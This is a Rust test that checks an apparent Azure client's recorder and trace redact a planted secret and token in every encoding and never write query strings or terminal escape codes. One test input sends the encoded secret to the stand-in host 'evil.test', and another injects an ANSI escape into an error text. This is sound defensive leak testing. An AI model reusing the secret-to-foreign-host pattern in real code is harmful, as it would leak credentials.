//! No secret and no token is in anything that is written or said.

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use host_sim_live::azure::{Recorder, Trace};
use live_servers::azure::SECRET;
use live_servers::{Answer, Fault};

use crate::setup::{Setup, answers};

/// How a secret may look.
fn forms(secret: &str) -> Vec<String> {
    let percent: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    let json = serde_json::json!(secret).to_string();
    let json = json.trim_matches('"').to_owned();
    vec![
        secret.to_owned(),
        json.replace('/', "\\/"),
        json,
        percent.replace('+', "%20"),
        percent.replace("%7E", "%7e").replace("%2F", "%2f").replace("%2B", "%2b").replace("%5C", "%5c").replace("%3D", "%3d").replace("%C3%A9", "%c3%a9"),
        percent,
        STANDARD.encode(secret),
        STANDARD.encode(secret).trim_end_matches('=').to_owned(),
        URL_SAFE_NO_PAD.encode(secret),
    ]
}

#[test]
fn no_secret_and_no_token_is_in_what_is_written_or_said() {
    let mut setup = Setup::new("secrets");
    setup.trace = Some(Trace::open(&setup.folder.join("trace.ndjson"), setup.redactor.clone()).expect("a trace"));
    setup.recorder = Some(Recorder::create(&setup.folder, setup.redactor.clone()).expect("a recording"));
    let mut said = String::new();

    // A server that sends back all that it was sent: in a body, in headers, in a link, in a text of its own.
    let mut transport = setup.transport();
    let mut answer = |request| answers(&mut transport, vec![request]).into_values().next().expect("an answer");
    assert!(answer(setup.request(1, "")).is_ok());
    let token = setup.server.tokens().pop().expect("a token");
    let planted: Vec<String> = [SECRET, &token].into_iter().flat_map(forms).collect();
    for form in &planted {
        let body = format!("{{\"text\":{},\"nextLink\":\"https://a.test/x?sig=c2lnbmF0dXJl%3D&a=1\",\"bearer\":\"Bearer {token}\"}}", serde_json::json!(form));
        setup.server.plan("assessments", [Fault::Instead(Answer::json(200, body))]);
        let _ = writeln!(said, "{}", answer(setup.request(1, "")).is_ok());
        let binary = [b"\xff\xfe", form.as_bytes(), b"\xff"].concat();
        setup.server.plan(
            "assessments",
            [Fault::Instead(Answer::new(200, binary).with("x-ms-ratelimit-remaining-x", form.split(['\u{e9}', '\n']).next().unwrap_or_default()))],
        );
        let _ = writeln!(said, "{}", answer(setup.request(1, "")).is_ok());
        let refusal = serde_json::json!({ "error": "x", "error_description": format!("AADSTS1: {form} {SECRET}\u{1b}[31m"), "error_codes": [1] });
        setup.server.plan("oauth2", [Fault::Instead(Answer::json(400, refusal.to_string()))]);
        let _ = writeln!(said, "{:?}", setup.ask_first());
        let mut request = setup.request(1, "&x=1");
        request.url.push_str(&url::form_urlencoded::byte_serialize(form.as_bytes()).collect::<String>());
        let _ = writeln!(said, "{}", answer(request.clone()).is_ok());
        request.url = format!("https://evil.test/?{}", url::form_urlencoded::byte_serialize(form.as_bytes()).collect::<String>());
        let _ = writeln!(said, "{:?}", answer(request));
    }
    let _ = writeln!(said, "{:?} {:#?} {:?} {:?} {:?}", setup.azure, setup.poll, setup.redactor, setup.trace, setup.transport());

    let mut written = setup.written();
    assert_eq!(written.keys().map(String::as_str).collect::<Vec<_>>(), ["exchanges.json", "trace.ndjson"]);
    let recording: serde_json::Value = serde_json::from_slice(&written["exchanges.json"]).expect("json");
    let exchanges = recording["exchanges"].as_array().expect("a list").len();
    assert_eq!(exchanges, 1 + 3 * planted.len());
    assert!(written["trace.ndjson"].split(|byte| *byte == b'\n').count() > exchanges);
    assert!(!String::from_utf8_lossy(&written["trace.ndjson"]).contains(['?', '\u{1b}']), "no query, and nothing that acts on a terminal");
    assert!(said.contains("AADSTS1: [redacted]") && said.contains("\\\\u{1b}[31m"), "{said}");
    // What stands as base64 is looked at as what it stands for.
    let bodies = recording["exchanges"].as_array().into_iter().flatten().filter_map(|exchange| exchange["response"]["body_base64"].as_str());
    let decoded: Vec<u8> = bodies.flat_map(|text| STANDARD.decode(text).expect("base64")).collect();
    assert!(!decoded.is_empty());
    written.insert("what is in base64".into(), decoded);
    written.insert("what is said".into(), said.into_bytes());
    let secrets: Vec<String> = planted.into_iter().chain(["c2lnbmF0dXJl%3D".to_owned()]).collect();
    for (name, bytes) in &written {
        for secret in &secrets {
            let found = bytes.windows(secret.len()).position(|window| window == secret.as_bytes());
            let around = found.map(|at| String::from_utf8_lossy(&bytes[at.saturating_sub(80)..(at + 80).min(bytes.len())]).into_owned());
            assert_eq!(around, None, "{name}");
        }
    }
}
